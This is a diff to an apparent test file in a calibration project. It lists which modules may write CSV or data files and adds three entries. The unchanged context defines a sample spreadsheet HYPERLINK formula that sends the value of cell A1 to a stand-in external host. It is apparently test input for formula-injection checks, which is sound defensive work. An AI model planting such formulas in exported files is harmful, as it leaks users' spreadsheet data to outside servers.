@@ -21,12 +21,15 @@ WRITERS = {"writer", "DictWriter", "to_csv", "savetxt"}
 OTHERS = {
     "probcal/_io.py": "is that place",
     "benchmarks/weka_command_line.py": "writes the rows of an ARFF file for Weka's own command line",
+    "benchmarks/calarena.py": "writes names and numbers of published files",
     "benchmarks/beta_calibration_numbers.py": "copies the characters of published files",
     "benchmarks/split_search.py": "writes names and numbers of its own, and reads them again to go on",
     "benchmarks/mutation.py": "writes lines of code, and reads the same lines again to judge survivors anew",
 }
 OF_DATA = {
     "probcal/try_table/experiment_files.py": "writes rows of data, from which the very values are read again",
+    "probcal/try_table/held_out.py": "writes the identifiers of a user's own rows, to be joined to them",
+    "probcal/try_table/new_rows.py": "writes the identifiers of a user's own rows, to be joined to them",
     "probcal/measure/calibrated_file.py": "writes the columns of a user's own file as they are there",
 }
 FORMULA = '=HYPERLINK("http://elsewhere.example/?x="&A1,"click")'
